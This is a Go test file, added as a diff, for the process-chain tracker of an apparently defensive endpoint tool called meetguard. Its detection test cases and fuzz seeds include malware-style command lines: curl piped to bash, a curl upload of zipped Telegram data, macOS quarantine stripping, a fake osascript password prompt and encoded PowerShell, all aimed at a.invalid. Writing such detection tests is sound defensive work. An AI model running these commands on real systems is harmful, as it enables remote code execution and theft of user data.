@@ -1,0 +1,207 @@
+package chain
+
+import (
+	"fmt"
+	"os"
+	"reflect"
+	"runtime"
+	"strings"
+	"testing"
+	"time"
+
+	"meetguard"
+)
+
+var start = time.Date(2026, 11, 20, 9, 0, 0, 0, time.UTC)
+
+// launch takes one launch into the tracker, the way the agent does.
+func launch(t *Tracker, at int, pid, ppid int, exe, line string) meetguard.Facts {
+	p := &meetguard.Process{OS: "linux", PID: pid, PPID: ppid, Exe: exe, Started: start.Add(time.Duration(at) * time.Second)}
+	if line != "" {
+		p.Args = Split("linux", line)
+	}
+	t.Ancestry(p)
+	f := meetguard.Facts{Path: exe, Process: p}
+	t.Add(&f)
+	return f
+}
+
+func TestAncestry(t *testing.T) {
+	tr := New()
+	launch(tr, 0, 100, 1, "/Script Editor", "")
+	child := launch(tr, 1, 101, 100, "/bin/sh", "sh -c 'curl x'")
+	if got := names(child.Process.Ancestors); got != "Script Editor" {
+		t.Errorf("ancestors %q", got)
+	}
+	became := launch(tr, 1, 101, 100, "/usr/bin/curl", "curl x")
+	if got := names(became.Process.Ancestors); got != "sh Script Editor" {
+		t.Errorf("a shell that became curl: ancestors %q", got)
+	}
+	launch(tr, 9000, 100, 1, "/bin/backup", "")
+	other := launch(tr, 9001, 102, 100, "/bin/sh", "sh -c true")
+	if got := names(other.Process.Ancestors); got != "backup" {
+		t.Errorf("below a number that came again: ancestors %q", got)
+	}
+	self := launch(tr, 9002, 103, 103, "/bin/odd", "")
+	if len(self.Process.Ancestors) != 0 {
+		t.Errorf("a process that is its own parent has ancestors")
+	}
+}
+
+func names(list []meetguard.Process) string {
+	var out []string
+	for _, p := range list {
+		out = append(out, p.Exe[strings.LastIndexByte(p.Exe, '/')+1:])
+	}
+	return strings.Join(out, " ")
+}
+
+func TestFilesJoin(t *testing.T) {
+	tr := New()
+	launch(tr, 0, 50, 1, "/usr/libexec/gnome-terminal-server", "")
+	launch(tr, 0, 51, 50, "/bin/bash", "bash")
+	a := launch(tr, 1, 60, 51, "/usr/bin/curl", "curl -o /tmp/x https://a.invalid/x")
+	b := launch(tr, 2, 61, 51, "/bin/chmod", "chmod +x /tmp/x")
+	c := launch(tr, 3, 62, 1, "/bin/sh", "sh /private/tmp/x")
+	d := launch(tr, 4, 63, 51, "/bin/ls", "ls /tmp")
+	if a.Chain != b.Chain || a.Chain != c.Chain {
+		t.Errorf("chains %q %q %q", a.Chain, b.Chain, c.Chain)
+	}
+	if d.Chain == a.Chain {
+		t.Error("ls of the folder belongs to the chain of a file in it")
+	}
+	if got := links(c.Story); got != "file file self" {
+		t.Errorf("story %q", got)
+	}
+	late := launch(tr, 4*3600, 64, 51, "/bin/sh", "sh /tmp/x")
+	if late.Chain == a.Chain {
+		t.Error("a file joins after hours")
+	}
+}
+
+func links(steps []meetguard.Step) string {
+	var out []string
+	for _, s := range steps {
+		out = append(out, s.Link)
+	}
+	return strings.Join(out, " ")
+}
+
+func TestDeeds(t *testing.T) {
+	for line, want := range map[string]string{
+		"curl -fsSLk https://a.invalid/p?t=1 -o /tmp/x":                 "fetch /tmp/x a.invalid curl",
+		"curl -F file=@/tmp/o.zip https://a.invalid":                    "upload /tmp/o.zip a.invalid curl",
+		"wget -qO /tmp/f.sh https://a.invalid/f.sh":                     "fetch /tmp/f.sh a.invalid wget",
+		"chmod 755 /tmp/x":                                              "make executable /tmp/x  ",
+		"chmod 644 /tmp/x":                                              "",
+		"xattr -rd com.apple.quarantine /tmp/a.app":                     "dequarantine /tmp/a.app  ",
+		"xattr -w com.apple.quarantine 0081 /tmp/a.app":                 "",
+		"codesign --force --deep -s - /tmp/a.app":                       "re-sign /tmp/a.app  ",
+		"codesign --verify /tmp/a.app":                                  "",
+		"dscl . -authonly ann secret":                                   "check password   dscl",
+		"dscl . -read /Users/ann":                                       "",
+		"zip -r /tmp/o.zip tdata":                                       "take secret   telegram; pack /tmp/o.zip  zip",
+		"bash":                                                          "read commands   bash",
+		"sudo -E bash /tmp/x.sh":                                        "run /tmp/x.sh  bash",
+		"sh -c 'curl -s https://a.invalid | bash'":                      "fetch  a.invalid curl; read commands   bash",
+		"osascript -e 'display dialog \"Password\" with hidden answer'": "ask password   osascript",
+		"unzip -o /var/tmp/V.zip -d /var/tmp/V":                         "run /var/tmp/V.zip  unpack; unpack /var/tmp/V  unzip",
+		"python3 -c 'print(1)'":                                         "",
+		"git clone https://github.com/a/b":                              "",
+	} {
+		words := Split("linux", line)
+		f := meetguard.Facts{Process: &meetguard.Process{OS: "linux", Exe: words[0], Args: words}}
+		var got []string
+		for _, d := range Deeds(&f) {
+			got = append(got, fmt.Sprintf("%s %s %s %s", d.Kind, d.File, d.Host, d.What))
+		}
+		if s := strings.Join(got, "; "); s != want {
+			t.Errorf("%s:\n got %q\nwant %q", line, s, want)
+		}
+	}
+}
+
+func TestSplit(t *testing.T) {
+	for _, c := range []struct {
+		system, line string
+		want         []string
+	}{
+		{"windows", `"C:\a b\c.exe" /x "d \"e\"" f\\ "g\\"`, []string{`C:\a b\c.exe`, "/x", `d "e"`, `f\\`, `g\`}},
+		{"windows", `a "" b`, []string{"a", "", "b"}},
+		{"linux", `a 'b c' "d \"e" f\ g`, []string{"a", "b c", `d "e`, "f g"}},
+		{"darwin", ``, nil},
+	} {
+		if got := Split(c.system, c.line); !reflect.DeepEqual(got, c.want) {
+			t.Errorf("%s: %q, want %q", c.line, got, c.want)
+		}
+	}
+}
+
+// TestBound: what is remembered does not grow with the number of launches.
+func TestBound(t *testing.T) {
+	most := 300_000
+	if os.Getenv("MEETGUARD_MILLION") != "" {
+		most = 1_000_000
+	}
+	tr := New()
+	storm(tr, 0, 100_000)
+	before := heap()
+	storm(tr, 100_000, most)
+	after := heap()
+	if after > before+8<<20 {
+		t.Errorf("%d KiB after 100,000 launches, %d KiB after %d", before>>10, after>>10, most)
+	}
+	if len(tr.nodes) > maxNodes || len(tr.files) > maxFiles || len(tr.sessions) > maxSessions {
+		t.Errorf("%d launches, %d files, %d sessions", len(tr.nodes), len(tr.files), len(tr.sessions))
+	}
+	t.Logf("%d KiB", after>>10)
+	runtime.KeepAlive(tr)
+}
+
+// storm is a long line of processes, each of which starts the next, with files.
+func storm(tr *Tracker, from, to int) {
+	for i := from; i < to; i++ {
+		args := []string{"curl", "-o", fmt.Sprintf("/tmp/f%d", i), "https://a.invalid"}
+		p := &meetguard.Process{OS: "linux", PID: 2 + i%60_000, PPID: 2 + (i-1)%60_000, Exe: "/usr/bin/curl", Args: args, Started: start.Add(time.Duration(i) * time.Millisecond)}
+		if i%7 == 0 {
+			p.PPID, p.Exe = 1, "/usr/bin/xterm"
+		}
+		tr.Ancestry(p)
+		tr.Add(&meetguard.Facts{Path: p.Exe, Process: p})
+	}
+}
+
+func heap() uint64 {
+	runtime.GC()
+	var m runtime.MemStats
+	runtime.ReadMemStats(&m)
+	return m.HeapAlloc
+}
+
+func BenchmarkLaunch(b *testing.B) {
+	tr := New()
+	storm(tr, 0, 20_000)
+	for b.Loop() {
+		storm(tr, 20_000, 20_001)
+	}
+}
+
+func FuzzTracker(f *testing.F) {
+	f.Add(`sh -c "curl -k https://a.invalid | bash & osascript -e 'do shell script \"x\"'"`, `C:\Windows\System32\cmd.exe`, 3, 2)
+	f.Add(`powershell -enc AAAA; Expand-Archive -Path a -DestinationPath b`, "powershell.exe", 2, 3)
+	f.Add(`tar czf`, "tar", 5, 5)
+	f.Fuzz(func(t *testing.T, line, exe string, pid, ppid int) {
+		tr := New()
+		for i, system := range []string{"linux", "windows", "darwin"} {
+			for _, args := range [][]string{nil, Split(system, line)} {
+				p := &meetguard.Process{OS: system, PID: pid + i, PPID: ppid, Exe: exe, CommandLine: line, Args: args}
+				tr.Ancestry(p)
+				fa := meetguard.Facts{Path: exe, Process: p}
+				tr.Add(&fa)
+				if len(fa.Story) > maxStory || len(Deeds(&fa)) > maxDeeds {
+					t.Fatal("a bound does not hold")
+				}
+			}
+		}
+	})
+}
